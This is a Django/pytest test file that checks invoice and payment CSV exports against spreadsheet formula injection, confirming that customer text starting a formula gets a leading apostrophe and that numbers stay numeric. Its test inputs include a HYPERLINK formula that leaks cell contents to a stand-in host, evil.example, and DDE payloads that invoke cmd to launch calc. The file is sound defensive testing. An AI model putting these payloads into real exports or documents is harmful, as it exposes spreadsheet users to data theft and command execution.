"""CSV exports and spreadsheet formulas: customer text never starts a formula in Excel, numbers stay numbers."""

import csv
import io
import itertools
import re
from datetime import date
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from billing.admin.csv_export import SPREADSHEET_FORMULA_PREFIXES, csv_rows
from billing.enums import InvoiceStatus
from billing.models import Customer, Invoice, Payment

from ..factories import CustomerFactory, InvoiceFactory, PaymentFactory
from ..helpers import seoul, streamed_bytes

pytestmark = pytest.mark.django_db

INVOICE_EXPORT = "admin:billing_invoice_export_csv"
PAYMENT_EXPORT = "admin:billing_payment_export_csv"
INVOICE_CHANGELIST = "admin:billing_invoice_changelist"
PAYMENT_CHANGELIST = "admin:billing_payment_changelist"
_names = itertools.count(1)


def rows_of(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = streamed_bytes(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def neutralised(text: str) -> str:
    """What a text cell must read in the file: OWASP's rule, a leading `'` before a formula's first character."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def customer_text_everywhere(text: str) -> tuple[Customer, Invoice, Payment]:
    """A customer named `text`, a draft invoice described `text`, and an issued invoice with a bank transfer whose
    note and reference start with `text` (a draft's description and buyer name are what a customer writes)."""
    customer = CustomerFactory.create(user__username=f"csv-{next(_names)}", display_name=text)
    draft = InvoiceFactory.create(
        customer=customer, currency="KRW", description=text, buyer_name=text, subtotal=110_000, tax=0, line=None
    )
    issued = InvoiceFactory.create(customer=customer, subtotal=55_000, tax=0, status=InvoiceStatus.OPEN)
    payment = PaymentFactory.create(invoice=issued, amount=55_000, succeeded_at=seoul(date(2026, 6, 2), 9))
    # A reference is unique per payment method: this one starts with `text` and ends with the payment's id.
    Payment.objects.filter(pk=payment.pk).update(note=text, provider_reference=f"{text} #{payment.pk}")
    return customer, draft, payment


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_customer_text_that_starts_a_formula_is_written_as_text(admin_client: Client, formula: str) -> None:
    customer, _draft, payment = customer_text_everywhere(formula)

    invoices = rows_of(admin_client.get(reverse(INVOICE_EXPORT)))
    payments = rows_of(admin_client.get(reverse(PAYMENT_EXPORT)))

    assert formula.startswith(SPREADSHEET_FORMULA_PREFIXES)
    described = next(row for row in invoices if row["적요"])
    assert described["적요"] == described["고객명"] == "'" + formula  # description, buyer name
    assert described["합계"] == "110000" and described["고객 ID"] == str(customer.pk)  # numbers stay numbers
    (paid,) = payments
    assert paid["고객명"] == paid["메모"] == "'" + formula  # display name, note
    assert paid["거래 참조"] == f"'{formula} #{payment.pk}"
    assert paid["금액"] == "55000" and paid["결제 ID"] == str(payment.pk)
    assert not [cell for row in invoices + payments for cell in row.values() if cell.startswith(("=", "+", "@"))]


def test_the_export_selected_action_neutralises_too(admin_client: Client) -> None:
    _customer, draft, payment = customer_text_everywhere(FORMULAS[0])

    invoices = rows_of(
        admin_client.post(
            reverse(INVOICE_CHANGELIST), {"action": "export_selected_csv", "_selected_action": [draft.pk]}
        )
    )
    payments = rows_of(
        admin_client.post(
            reverse(PAYMENT_CHANGELIST), {"action": "export_selected_csv", "_selected_action": [payment.pk]}
        )
    )

    assert [row["적요"] for row in invoices] == ["'" + FORMULAS[0]]
    assert [row["메모"] for row in payments] == ["'" + FORMULAS[0]]


def test_ordinary_text_is_written_unchanged(admin_client: Client) -> None:
    customer_text_everywhere("주식회사 A=B (2026-06)")

    invoices = rows_of(admin_client.get(reverse(INVOICE_EXPORT)))

    assert next(row for row in invoices if row["적요"])["적요"] == "주식회사 A=B (2026-06)"


def test_numbers_stay_numbers_also_negative_ones_and_numeric_looking_text_does_not() -> None:
    """Every export writes through csv_rows; today's exports hold no negative amount, a credit column would."""
    columns = (("금액", lambda row: row[0]), ("메모", lambda row: row[1]))

    text = "".join(csv_rows([(-5_000, "-5000"), (0, "+82 10 1234 5678"), (12_000_000_000, "12")], columns))

    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["금액", "메모"],
        ["-5000", "'-5000"],
        ["0", "'+82 10 1234 5678"],
        ["12000000000", "12"],
    ]


# What customers can type: anything but NUL (PostgreSQL text cannot hold it), with formula starters made likely.
customer_text = st.text(
    alphabet=st.one_of(
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", '"', "'", ",", " "]),
        st.characters(exclude_characters="\x00", exclude_categories=["Cs"]),
    ),
    max_size=40,
)
INTEGER = re.compile(r"-?\d+")


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=customer_text)
def test_no_text_cell_of_an_export_starts_a_formula(admin_client: Client, text: str) -> None:
    _customer, draft, payment = customer_text_everywhere(text)

    invoices = rows_of(admin_client.get(reverse(INVOICE_EXPORT)))
    payments = rows_of(admin_client.get(reverse(PAYMENT_EXPORT)))

    for row in invoices + payments:
        for header, cell in row.items():
            assert INTEGER.fullmatch(cell) or not cell.startswith(SPREADSHEET_FORMULA_PREFIXES), (header, cell)
    # This example's rows carry the customer's text, neutralised and otherwise intact.
    (described,) = [row for row in invoices if row["고객 ID"] == str(draft.customer_id) and not row["청구서 번호"]]
    (paid,) = [row for row in payments if row["결제 ID"] == str(payment.pk)]
    assert described["적요"] == described["고객명"] == paid["메모"] == paid["고객명"] == neutralised(text)
    assert paid["거래 참조"] == neutralised(f"{text} #{payment.pk}")
